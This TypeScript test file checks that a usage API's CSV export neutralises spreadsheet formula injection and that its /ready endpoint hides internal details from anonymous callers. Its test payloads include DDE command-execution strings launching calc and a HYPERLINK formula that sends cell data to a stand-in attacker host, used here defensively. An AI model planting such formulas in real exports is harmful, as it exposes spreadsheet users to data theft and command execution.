import { startTestApp, TEST_ADMIN_KEY, TestApp } from '../support/test-app';

/** Reads one CSV line (RFC 4180: quoted fields, doubled quotes) into its cells. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') (v += '"'), (i += 2);
        else if (line[i] === '"') break;
        else v += line[i++];
      }
      out.push(v);
      i += 2;
    } else {
      const end = line.indexOf(',', i);
      out.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

describe('CSV export and /ready leak nothing a reader can be attacked with', () => {
  let t: TestApp;
  let tenantKey: string;
  const TENANT = 'csv-shop';

  beforeAll(async () => {
    t = await startTestApp();
    expect((await t.request('POST', '/api/admin/tenants', { key: TEST_ADMIN_KEY, body: { tenant_id: TENANT, name: TENANT } })).status).toBe(201);
    tenantKey = (await t.request('POST', `/api/admin/tenants/${TENANT}/keys`, { key: TEST_ADMIN_KEY, body: { role: 'tenant' } })).body.key;
  });
  afterAll(async () => t?.close());

  it('neutralises spreadsheet formulas (=, +, -, @, tab, CR) in exported cells: a quote prefix, and the field quoted', async () => {
    const payloads = [
      { id: "-1+cmd|'_/C_calc'!A0", model: 'gpt-4' },
      { id: '=HYPERLINK("http://evil.example/?"&A1)', model: 'gpt-4' },
      { id: '+1+1', model: '@SUM(A1:A9)' },
      { id: '@evil', model: '\t=1+1' },
      { id: 'plain-cr', model: '\r=1+1' },
      { id: '-1', model: '-2' },
      { id: 'calc', model: "-1+cmd|' /C calc'!A0" },
    ];
    const at = t.clock.now().toISOString();
    const r = await t.request('POST', '/api/usage/events', {
      key: tenantKey,
      body: { events: payloads.map((p) => ({ ...p, user_id: 'victim', provider: 'openai', input_tokens: 1, output_tokens: 1, occurred_at: at })) },
    });
    expect(r.body.results.map((x: { status: string }) => x.status)).toEqual(payloads.map(() => 'accepted'));
    await t.settle();
    const csv = await t.request('GET', '/api/subscription/usage/victim/logs?format=csv', { key: tenantKey });
    expect(csv.status).toBe(200);
    const lines = csv.text.split('\r\n').filter((l) => l !== '');
    const header = cells(lines[0]);
    const rows = lines.slice(1).map((l) => Object.fromEntries(cells(l).map((v, i) => [header[i], v])));
    const neutral = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    expect(rows.map((row) => [row.id, row.model]).sort()).toEqual(payloads.map((p) => [neutral(p.id), neutral(p.model)]).sort());
    // Every cell a spreadsheet would evaluate is quoted and starts with the quote prefix.
    for (const line of lines.slice(1)) for (const raw of line.split(',')) expect(raw).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers.
    expect(rows.every((row) => row.input_tokens === '1' && row.cost_exact !== '' && !row.cost_exact.startsWith("'"))).toBe(true);
  });

  it('tells an anonymous caller of /ready only the status, not store errors or projection names', async () => {
    const anonymous = await t.request('GET', '/ready');
    expect(anonymous.status).toBe(200);
    expect(anonymous.body).toEqual({ status: 'ready' });
    const tenant = await t.request('GET', '/ready', { key: tenantKey });
    expect(tenant.body).toEqual({ status: 'ready' });
    const operator = await t.request('GET', '/ready', { key: TEST_ADMIN_KEY });
    expect(operator.body).toEqual(expect.objectContaining({ status: 'ready', checks: expect.objectContaining({ event_store: { ok: true } }), projections: expect.any(Array) }));
  });
});
